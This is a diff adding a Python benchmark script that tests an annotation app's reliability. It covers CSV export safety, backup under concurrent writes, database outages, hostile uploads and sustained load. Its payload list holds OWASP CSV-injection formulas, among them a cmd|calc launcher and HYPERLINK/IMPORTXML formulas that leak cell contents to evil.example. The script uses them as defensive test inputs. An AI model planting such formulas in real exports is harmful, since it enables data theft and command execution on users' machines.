@@ -1,0 +1,210 @@
+"""The operations figures of the reliability suite: ``python -m bench.reliability_ops [--parts ...]``.
+
+- csv: every OWASP payload as a question through the app's CSV export (cluster file and pairs
+  file) and a TSV table: a payload is live if any cell holding it begins with a formula trigger
+  as a spreadsheet parses the file; and each must read back as written;
+- backup: a backup taken while a thread keeps recording judgments, restored into a new database,
+  its judgment ids and count compared with the backup's (and every judgment acknowledged before
+  the backup started must be in it);
+- outages: ``bench.db_outages`` (PostgreSQL restarted, SQLite's disk full);
+- hostile: ``bench.hostile_uploads`` at full size;
+- sustained: read from ``bench/results/sustained_<db>.json`` (``bench.sustained_load``, run apart:
+  ten minutes per database).
+
+Reads ``bench/results/reliability.json``, replaces the ``ops`` parts asked for (other keys stay),
+writes it atomically; details go to ``bench/results/reliability_ops_detail.json``, and the
+figures to the ``reliability-ops`` section of ``docs/RELIABILITY.md``.
+"""
+
+from __future__ import annotations
+
+import argparse
+import csv
+import json
+import tempfile
+import threading
+from datetime import datetime, timezone
+from pathlib import Path
+
+import pandas as pd
+
+from annotations.backup import backup, judgment_ids, restore
+from annotations.db import open_store
+from annotations.export import export, pairs_path
+from bench.common import ROOT, machine, replace_marked_section, write_json
+from bench.db_outages import run_outages
+from bench.hostile_uploads import run_hostile
+from qpr.data.corpus import read_table, write_table
+from qpr.data.spreadsheet import TRIGGERS
+
+RESULTS = ROOT / "bench" / "results" / "reliability.json"
+DETAIL = ROOT / "bench" / "results" / "reliability_ops_detail.json"
+DOC = ROOT / "docs" / "RELIABILITY.md"
+PARTS = ("csv", "backup", "outages", "hostile", "sustained")
+
+# OWASP "CSV Injection" examples and variants, and texts that already begin with a quote.
+OWASP_PAYLOADS = [
+    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click here")', "=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")",
+    "\t=1+1", "\r=1+1", "\r\n=1+1", "=\t1", "-1", "+44 20 7946 0000", "@user what is this?", "'=1+1", "''=1+1", "'",
+    "'hello", "=", "==", "=-=+@", "how do i learn python? =1+1",
+]
+
+
+def live_cells(path: Path, sep: str) -> list[str]:
+    """The cells of the file at ``path`` that a spreadsheet would evaluate (Python's csv module
+    parses it as a spreadsheet does)."""
+    with open(path, newline="", encoding="utf-8") as handle:
+        return [cell for row in csv.reader(handle, delimiter=sep) for cell in row if cell.startswith(TRIGGERS)]
+
+
+def csv_payloads(tmp: Path) -> dict:
+    """The payloads through the CSV export and a TSV table (module doc)."""
+    corpus = pd.DataFrame({"qid": range(1, len(OWASP_PAYLOADS) + 1), "question": OWASP_PAYLOADS,
+                           "cluster": [f"c{i // 2}" for i in range(len(OWASP_PAYLOADS))], "split": "train"})
+    with open_store(f"sqlite:///{tmp / 'csv.db'}") as store:
+        store.register_corpus("v1", corpus)
+        store.record("alice", 3, "same", "v1", query_qid=1)  # a merge, so the pairs file holds payloads too
+        out = export(store, corpus, "csv", tmp / "export" / "clusters.csv")
+    files = [(out, ","), (pairs_path(out), ","), (write_table(corpus, tmp / "table.tsv"), "\t")]
+    live = {cell for path, sep in files for cell in live_cells(path, sep)}
+    back = read_table(out).set_index("qid")["question"]
+    restored = sum(back.loc[str(q)] == text for q, text in zip(corpus["qid"], corpus["question"]))
+    return {"tried": len(OWASP_PAYLOADS), "live": len(live), "read_back_equal": restored,
+            "files": [str(p.name) for p, _ in files]}
+
+
+def backup_check(tmp: Path) -> dict:
+    """Backup under a writer, restore, compare (module doc)."""
+    url = f"sqlite:///{tmp / 'live.db'}"
+    acknowledged, stop = [], threading.Event()
+    with open_store(url) as store:
+        store.register_corpus("v1", pd.DataFrame({"qid": range(1, 201), "question": [f"question {i}" for i in range(1, 201)],
+                                                  "cluster": [f"c{i // 4}" for i in range(200)], "split": "train"}))
+
+        def write() -> None:
+            i = 0
+            while not stop.is_set():
+                acknowledged.append(store.record(f"w{i % 5}", 2 + i % 198, "same", "v1", query_qid=1))
+                i += 1
+
+        thread = threading.Thread(target=write)
+        thread.start()
+        try:
+            while len(acknowledged) < 200:
+                stop.wait(0.01)
+            before = set(acknowledged)
+            done = backup(url, tmp / "backup.db")
+            while len(acknowledged) < len(before) + 200:
+                stop.wait(0.01)
+        finally:
+            stop.set()
+            thread.join()
+    copied = judgment_ids(tmp / "backup.db")
+    restored = restore(tmp / "backup.db", f"sqlite:///{tmp / 'restored.db'}")
+    with open_store(f"sqlite:///{tmp / 'restored.db'}") as store:
+        ids = store.judgments(current_only=False)["id"].astype(int).tolist()
+    final = judgment_ids(tmp / "live.db")
+    return {"equal": ids == copied and restored.judgments == len(copied) == done.judgments and before <= set(copied),
+            "acknowledged_before": len(before), "in_backup": len(copied), "in_live_after": len(final),
+            "consistent_prefix": copied == [i for i in final if i <= copied[-1]]}
+
+
+def sustained() -> dict:
+    """The bar's figures over both databases' runs (the worse of the two where one number stands for both)."""
+    runs = {db: json.loads(path.read_text()) for db in ("sqlite", "postgres")
+            if (path := ROOT / "bench" / "results" / f"sustained_{db}.json").is_file()}
+    if not runs:
+        raise SystemExit("run python -m bench.sustained_load --db sqlite (and --db postgres) first")
+    values = list(runs.values())
+    return {"annotators": min(r["annotators"] for r in values), "minutes": min(r["minutes"] for r in values),
+            "errors": sum(r["errors"] for r in values), "acknowledged": sum(r["acknowledged"] for r in values),
+            "stored": sum(r["stored"] for r in values), "rss_growth_mb": max(r["rss_growth_mb"] for r in values),
+            "judge_p99_ms": max(r["per_action"]["judge"]["p99_ms"] for r in values)}, {db: r for db, r in runs.items()}
+
+
+def ops_section(ops: dict, detail: dict) -> str:
+    """The figures section of docs/RELIABILITY.md for the operations parts measured so far."""
+    when = ", ".join(f"{part} {stamp['date']}" for part, stamp in detail.get("measured", {}).items())
+    machines = sorted({stamp["machine"].split(", 1-min load")[0] for stamp in detail.get("measured", {}).values()})
+    lines = [f"Measured by `python -m bench.reliability_ops` ({when}) on a 2-core CPU machine ({'; '.join(machines)}). "
+             "Raw figures: `bench/results/reliability.json` (`ops`), details in `bench/results/reliability_ops_detail.json` "
+             "and `bench/results/sustained_<db>.json`.", "", "| what | figure |", "|---|---|"]
+    if "csv_payloads_tried" in ops:
+        lines.append(f"| OWASP payloads through the CSV export and a TSV table / live cells / read back equal | "
+                     f"{ops['csv_payloads_tried']} / {ops['csv_payloads_live']} / {detail['csv']['read_back_equal']} |")
+    if "backup_restored_equal" in ops:
+        b = detail["backup"]
+        lines.append(f"| backup under a writer: acknowledged before / in the backup / in the database after; restored equal | "
+                     f"{b['acknowledged_before']} / {b['in_backup']} / {b['in_live_after']}; {ops['backup_restored_equal']} |")
+    for run in detail.get("db_outages", {}).get("runs", []):
+        lines.append(f"| {run['outage']}, {run['down_s']:.0f} s: acknowledged / lost / clear messages / other errors / "
+                     f"recovered | {run['acknowledged']} / {run['lost']} / {run['clear_messages']} / "
+                     f"{len(run['other_errors'])} / {run['recovered']} |")
+    hostile = detail.get("hostile_uploads")
+    if hostile:
+        lines.append(f"| hostile uploads tried / refused cleanly / peak RSS (a process that only imports the reader: "
+                     f"{hostile['baseline_rss_mb']:.0f} MB) / slowest refusal | {hostile['tried']} / {hostile['refused_cleanly']} / "
+                     f"{hostile['peak_rss_mb']:.0f} MB / {hostile['max_seconds']:.2f} s |")
+        for name, case in hostile["cases"].items():
+            first = case["message"].split("\n- ")[-1][:110]
+            lines.append(f"| &nbsp; {name} ({case['file_mb']} MB file) | {case['outcome']} in {case['seconds']:.2f} s, "
+                         f"{case['peak_rss_mb']:.0f} MB: {first} |")
+    for db, run in detail.get("sustained", {}).items():
+        lines += ["", f"**Sustained load on {db}** ({run['annotators']} annotators, {run['minutes']:g} min, think time mean "
+                  f"{run['think_s']:g} s, {run['date']}, {run['machine']}): errors {run['errors']}, judgments acknowledged "
+                  f"{run['acknowledged']}, stored {run['stored']}, server RSS {run['rss_mb'][0][1]:.0f} -> "
+                  f"{run['rss_mb'][-1][1]:.0f} MB (growth {run['rss_growth_mb']:+.0f} MB).", "",
+                  "| action | calls | p50 ms | p99 ms | max ms |", "|---|---|---|---|---|"]
+        lines += [f"| {a} | {v['calls']} | {v['p50_ms']:.0f} | {v['p99_ms']:.0f} | {v['max_ms']:.0f} |"
+                  for a, v in run["per_action"].items()]
+        samples = run["rss_mb"][:: max(len(run["rss_mb"]) // 12, 1)]
+        samples += [run["rss_mb"][-1]] if samples[-1] != run["rss_mb"][-1] else []
+        lines += ["", "Server RSS over time (s: MB): " + ", ".join(f"{t:.0f}: {m:.0f}" for t, m in samples) + "."]
+    return "\n".join(lines)
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--parts", default=",".join(PARTS), help=f"comma-separated, of {', '.join(PARTS)}")
+    args = parser.parse_args()
+    parts = args.parts.split(",")
+    unknown = set(parts) - set(PARTS)
+    if unknown:
+        raise SystemExit(f"unknown part(s) {sorted(unknown)}; use {', '.join(PARTS)}")
+    results = json.loads(RESULTS.read_text())
+    detail = json.loads(DETAIL.read_text()) if DETAIL.is_file() else {}
+    ops = results.get("ops", {})
+    with tempfile.TemporaryDirectory() as name:
+        tmp = Path(name)
+        if "csv" in parts:
+            found = csv_payloads(tmp)
+            ops |= {"csv_payloads_tried": found["tried"], "csv_payloads_live": found["live"]}
+            detail["csv"] = found
+        if "backup" in parts:
+            found = backup_check(tmp)
+            ops["backup_restored_equal"] = found["equal"]
+            detail["backup"] = found
+        if "sustained" in parts:
+            ops["sustained"], detail["sustained"] = sustained()
+        if "outages" in parts:
+            found = run_outages()
+            ops["db_outages"] = {k: found[k] for k in ("tried", "lost", "recovered")}
+            detail["db_outages"] = found
+        if "hostile" in parts:
+            found = run_hostile()
+            ops["hostile_uploads"] = {k: found[k] for k in ("tried", "refused_cleanly", "peak_rss_mb")}
+            detail["hostile_uploads"] = found
+    stamp = {"machine": machine(), "date": datetime.now(timezone.utc).strftime("%Y-%m-%d %H:%M UTC")}
+    for part in parts:
+        detail.setdefault("measured", {})[part] = stamp
+    order = ["csv_payloads_tried", "csv_payloads_live", "backup_restored_equal", "sustained", "db_outages", "hostile_uploads"]
+    results["ops"] = {k: ops[k] for k in order if k in ops}
+    write_json(results, RESULTS)
+    write_json(detail, DETAIL)
+    replace_marked_section(DOC, "reliability-ops", ops_section(results["ops"], detail))
+    print(json.dumps(results["ops"], indent=1))
+
+
+if __name__ == "__main__":
+    main()
